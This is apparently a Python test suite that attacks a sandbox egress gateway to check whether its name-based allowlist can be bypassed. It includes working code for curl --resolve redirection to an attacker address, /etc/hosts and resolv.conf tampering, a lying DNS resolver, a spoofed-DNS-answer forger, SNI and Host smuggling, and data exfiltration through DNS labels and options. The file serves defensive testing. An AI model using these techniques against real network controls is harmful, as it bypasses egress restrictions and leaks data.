"""Names under an allowlist: who decides where a connection goes. The gateway does, from the name alone; what the guest dials, resolves or
forges is no more than a wish."""

from framework import attack
from gate import Gate, command, dns, get, raw

PLAIN = "GET /{m} HTTP/1.1\r\nHost: allowed.test\r\n\r\n"


def outside(seen):
    """Arrived at another server than the one that the policy allows."""
    return [entry for entry in seen.arrived if entry["at"] != "shared" or entry.get("host") not in ("allowed.test", None)]


def controls(gate, *tools):
    """The same tools reach what is allowed."""
    if "raw" in tools:
        gate.control("a plain request in the clear", get("allowed.test"))
        gate.control("a plain request in TLS", get("allowed.test", sni="allowed.test"))
    if "curl" in tools:
        gate.control("curl reaches what is allowed", command("curl -sS -m 15 https://allowed.test/{m}"))
    if "dns" in tools:
        gate.control("an allowed name is answered", dns("allowed", "test"), lambda seen: "rcode 0 answers 1 " in seen.out)


@attack("B02", "B03", "B06", "B07", conditions=("partial",), seconds=150)
def destinations(t):
    """An allowed name on another's address, a lying resolver, another name on the allowed one's address"""
    gate, evil = Gate(t, t.world.sandbox()), t.world.net.evil
    controls(gate, "raw", "curl")
    gate.attempt("curl --resolve", command(f"curl -k -sS -m 8 --resolve allowed.test:443:{evil} https://allowed.test/{{m}}"), outside)
    gate.attempt("curl --connect-to", command(f"curl -sS -m 8 --connect-to allowed.test:80:{evil}:80 http://allowed.test/{{m}}"), outside)
    gate.attempt("the attacker's address with the allowed name inside TLS", {**raw(evil, PLAIN, sni="allowed.test")}, outside)
    gate.attempt("the attacker's address with the allowed name in the clear", raw(evil, PLAIN), outside)
    gate.attempt("/etc/hosts", command(f"cp /etc/hosts /tmp/h; echo '{evil} hosts-{{m}}.wild.test' >> /etc/hosts; curl -k -sS -m 8 https://hosts-{{m}}.wild.test/{{m}}; cat /tmp/h > /etc/hosts"),
                 lambda seen: seen.at("evil"))
    for place, port, sni in (("cdn-ok.test", 80, None), ("cdn-ok.test", 443, "cdn-ok.test"), ("cdn-ok.test", 443, "cdn-bad.test"), ("cdn-ok.test", 443, "evil.test")):
        gate.attempt(f"another host on the shared address, port {port}, SNI {sni}", get(place, sni=sni, named="cdn-bad.test"))
    gate.attempt("openssl with a forbidden name", command(f"printf 'GET /{{m}} HTTP/1.1\\r\\nHost: cdn-bad.test\\r\\n\\r\\n' | timeout 8 openssl s_client -quiet -connect cdn-ok.test:443 -servername cdn-bad.test"))
    gate.go()
    # A resolver of the guest's own, in the place of the real one, while nothing else asks.
    liar = ("import socket\ns = socket.socket(2, 2); s.setsockopt(1, 2, 1); s.bind(('127.0.0.1', 53)); s.settimeout(12)\n"
            f"while True:\n  q, p = s.recvfrom(512); s.sendto(q[:2] + bytes.fromhex('81800001000100000000') + q[12:q.index(0, 12) + 5] + bytes.fromhex('c00c00010001000000050004') + socket.inet_aton('{evil}'), p)\n")
    t.world.sandbox().write("/tmp/liar.py", liar.encode(), user="root")
    lied = gate.attempt("a resolver of its own that lies", command("cat /etc/resolv.conf > /tmp/r; timeout 12 python3 /tmp/liar.py & sleep 1.2; echo nameserver 127.0.0.1 > /etc/resolv.conf; "
                                                                   "getent hosts allowed.test; curl -k -sS -m 6 https://allowed.test/{m}; curl -sS -m 6 http://allowed.test/{m}; cat /tmp/r > /etc/resolv.conf"), outside)
    seen = gate.go()["a resolver of its own that lies"]
    t.control(f"its lie was believed inside ({lied})", evil in seen.out, seen)


@attack("B04", conditions=("partial",), seconds=150)
def forged_answers(t):
    """Answers of a resolver, made up by the guest, while the gateway asks its own"""
    box, net = t.world.sandbox(), t.world.net
    box.write("/tmp/forge.py", FORGER.replace("EVIL", net.evil).encode(), user="root")
    forger = box.start(["python3", "/tmp/forge.py"], user="root").in_background()
    forger.until(lambda result: b"begun" in result.stdout, 20)
    gate = Gate(t, box)
    for n in range(8):
        gate.control(f"forged{n}.wild.test is reached where the zone says", get(f"forged{n}.wild.test", named=f"forged{n}.wild.test", wait=10), lambda seen: seen.at("shared"))
        gate.attempt(f"forged{n}.wild.test is reached where the answers say", get(f"forged{n}.wild.test", named=f"forged{n}.wild.test", wait=10), lambda seen: seen.at("evil"))
    gate.go()
    sent = forger.wait(40).stdout.decode()
    t.control("forged answers were sent all the while", int(sent.split()[-1]) > 100, sent)


FORGER = r"""
import socket, struct, time
evil, stop, n = socket.inet_aton("EVIL"), time.time() + 8, 0
s = socket.socket(2, 2)
s.setsockopt(1, 2, 1)
try:
    s.bind(("", 53))
except OSError:
    pass
print("begun", flush=True)
while time.time() < stop:
    name = b"".join(bytes([len(l)]) + l for l in (b"forged" + str(n % 8).encode(), b"wild", b"test")) + b"\0"
    m = struct.pack(">H", n & 65535) + bytes.fromhex("81800001000100000000") + name + bytes.fromhex("00010001c00c00010001000000ff0004") + evil
    for port in (53, 1024 + n * 7 % 64000, 32768 + n % 28000):
        try:
            s.sendto(m, ("10.0.0.1", port))
        except OSError:
            pass
    n += 1
print(n)
"""


@attack("B08", "B12", conditions=("partial",), seconds=150, quick=True)
def one_connection(t):
    """A second request for another host on a connection that is open; bytes without a name"""
    gate = Gate(t, t.world.sandbox())
    controls(gate, "raw")
    gate.control("two good requests on one connection", raw("allowed.test", "GET /one HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /{m} HTTP/1.1\r\nHost: allowed.test\r\n\r\n", all=True))
    gate.control("bytes to a port that a rule names", raw("allowed.test", "HELLO {m}\n", port=5432, all=True, wait=2), lambda seen: seen.at("shared") and seen.marker in seen.out)
    for sni in (None, "allowed.test"):
        for other in ("evil.test", "cdn-ok.test", "cdn-bad.test", "api.secret.test"):
            gate.attempt(f"the second request is for {other}, TLS {sni is not None}",
                         raw("allowed.test", f"GET /one HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET /{{m}} HTTP/1.1\r\nHost: {other}\r\n\r\n", sni=sni, all=True, wait=3))
    for port in (22, 80, 443, 5432, 8443):
        gate.attempt(f"bytes to the server's address, port {port}", raw(t.world.net.shared, "HELLO {m}\n", port=port, wait=2))
    for port in (22, 80, 443, 8443):
        gate.attempt(f"bytes to the allowed name, port {port}", raw("allowed.test", "HELLO {m}\n", port=port, wait=2))
    gate.attempt("an address of the names' range that stands for none", raw("198.18.200.200", PLAIN))
    gate.go()


@attack("B11", conditions=("partial",), seconds=150)
def ranges_and_names(t):
    """A range is allowed, a name in it is denied: asked for by address"""
    world, box = t.world, t.world.sandbox("second")
    world.settle(box, {"mode": "allowlist", "rules": [{"id": "range", "cidr": f"{world.net.block}.0/24"}, {"id": "no", "action": "deny", "name": "cdn-bad.test"}]})
    try:
        gate = Gate(t, box)
        shared = world.net.shared
        gate.control("an address of the range, with a name that nobody denies", get(shared, sni="cdn-ok.test", named="cdn-ok.test"))
        gate.control("the same in the clear", get(shared, named="cdn-ok.test"))
        for sni in ("cdn-bad.test", "CDN-BAD.test", "cdn-bad.test."):
            gate.attempt(f"by address with the denied name as SNI {sni}", get(shared, sni=sni, named="cdn-bad.test"))
        for host in ("cdn-bad.test", "CDN-bad.TEST", "cdn-bad.test.", "cdn-bad.test:80"):
            gate.attempt(f"by address with the denied name as Host {host}", get(shared, named=host))
        gate.attempt("an encrypted ClientHello, in which no name can be seen", hello_to(shared), lambda seen: seen.out.startswith("handshake"))
        gate.go()
    finally:
        world.settle(box)


def hello_to(address):
    from gate import hello
    return hello(address, "cdn-ok.test", "ech")


@attack("B14", "B15", "D08", conditions=("partial",), seconds=150)
def names_that_lead_inside(t):
    """Allowed names that lead to special addresses, to aliases without end, to a host that somebody took over"""
    import internet
    from a01_all_blocked import canaries_work

    world, port = t.world, t.world.wide.port
    canaries_work(t)
    world.expect(lambda entry: entry["at"] == "dns")  # whoever owns a wildcard's zone decides what its names are aliases of
    world.expect(lambda entry: "stale.wild.test" in str(entry) or entry.get("host") in ("c1.wild.test",))
    gate = Gate(t, world.sandbox(), threads=4)
    gate.control("a name below the wildcard", get("plain.wild.test"))
    for number, address in enumerate(internet.SPECIAL):
        for where in (80, port):
            gate.attempt(f"{address} behind an allowed name, port {where}", get(f"r{number}.wild.test", named=f"r{number}.wild.test" + ("" if where == 80 else f":{where}"), port=where),
                         lambda seen: seen.arrived and seen.at("host", "shared", "evil") or seen.status == "200")
    for name, what in (("c2", "localhost"), ("c3", "itself"), ("c5", "a host of the inside"), ("d0", "sixty more")):
        gate.attempt(f"an alias of {what}", get(f"{name}.wild.test", named=f"{name}.wild.test:{port}", port=port, wait=12), lambda seen: seen.at("host", "shared", "evil") or seen.status == "200")
    gate.attempt("a name whose address changes after the first answer", command(f"curl -s -m 5 http://flip.wild.test/; sleep 2; curl -s -m 5 http://flip.wild.test:{port}/{{m}}; sleep 2; "
                                                                                f"curl -s -m 5 http://flip.wild.test:{port}/{{m}}", 30), lambda seen: seen.at("host"))
    gate.control("a name that was taken over leads to its new owner", get("stale.wild.test"), lambda seen: seen.at("evil"))
    gate.go()
    with world.attacker.events(f"{world.sandbox().path}/egress/log") as stream:
        log = [event.data for event in stream]
    t.control("the log has entries", len(log) > 10)
    t.attempt("where such a name led is not in the log", world.net.evil not in {entry.get("address") for entry in log if entry.get("name") == "stale.wild.test"})


@attack("B16", "B34", "B35", conditions=("partial",), seconds=150)
def carried_by_names(t):
    """Data in the labels of a wildcard, in options and letters of a question; what one sandbox learns of another's names"""
    world, box = t.world, t.world.sandbox()
    count = 1000 if world.long else 60
    gate = Gate(t, box, threads=12)
    gate.control("a name that is connected to is looked up", get("seen-{m}.wild.test", named="seen-{m}.wild.test"), lambda seen: seen.at("dns"))
    for n in range(8):
        gate.attempt(f"a question that nobody connects to ({n})", dns("{m}", "wild", "test", tcp=bool(n % 2)), lambda seen: seen.at("dns"))
    gate.attempt("an option with data", dns("option", "wild", "test", additional=1, more=OPTION), lambda seen: False)
    gate.attempt("capital letters as bits", dns("oPtIoN", "WiLd", "tEsT"), lambda seen: False)
    gate.go()
    asked = Gate(t, box, threads=12)
    marker = asked.control("the name with the option is looked up once it is connected to", get("option.wild.test", named="option.wild.test"), lambda seen: seen.at("shared"))
    asked.go()
    queries = [entry for entry in world.net.since(world.mark, "dns") if entry.get("name") == "option.wild.test"]
    t.control(f"its question arrived ({marker})", queries)
    t.attempt("what the guest put into its question goes out", any("raw" in entry for entry in queries), queries)
    # How many names a second lead out.
    box.write("/tmp/burst.py", BURST.replace("COUNT", str(count)).encode())
    before = len(world.net.since(world.mark, "dns"))
    took = float(t.guest(box, ["python3", "/tmp/burst.py"], timeout=120).stdout.split()[-1])
    looked_up = len({entry.get("name") for entry in world.net.since(world.mark, "dns")[before:]})
    t.figure("names looked up of, in s", f"{looked_up} of {count}, {took:.1f}")
    t.control("some were", looked_up > 0)
    t.attempt("more names a second lead out than the limit", looked_up > 20 * (took + 1.5), f"{looked_up} in {took:.1f} s")
    # Each sandbox has answers of its own.
    second = world.sandbox("second")
    shared_name = f"cache-{marker}.wild.test"
    for who, rounds in ((box, 2), (second, 1)):
        for _ in range(rounds):
            t.guest(who, f"curl -sS -m 10 http://{shared_name}/", timeout=40)
    lookups = [entry for entry in world.net.since(world.mark, "dns") if (entry.get("name"), entry.get("kind")) == (shared_name, 1)]  # beside it AAAA
    t.control("the second time the first sandbox does not ask again", len(lookups) <= 2, len(lookups))
    t.attempt("the second sandbox is answered from the first one's lookups", len(lookups) < 2, len(lookups))


OPTION = "00002904d000000000" + "0011" + "fde9" + "000d" + "6d" * 13  # an OPT record with a private option (RFC 6891)
BURST = r"""
import os, socket, threading, time
def one():
    try:
        name = os.urandom(15).hex() + ".wild.test"
        s = socket.create_connection((name, 80), 8)
        s.send(b"GET / HTTP/1.1\r\nHost: " + name.encode() + b"\r\n\r\n")
        s.recv(10)
    except OSError:
        pass
begun = time.time()
threads = [threading.Thread(target=one) for _ in range(COUNT)]
[thread.start() for thread in threads]
[thread.join() for thread in threads]
print(time.time() - begun)
"""
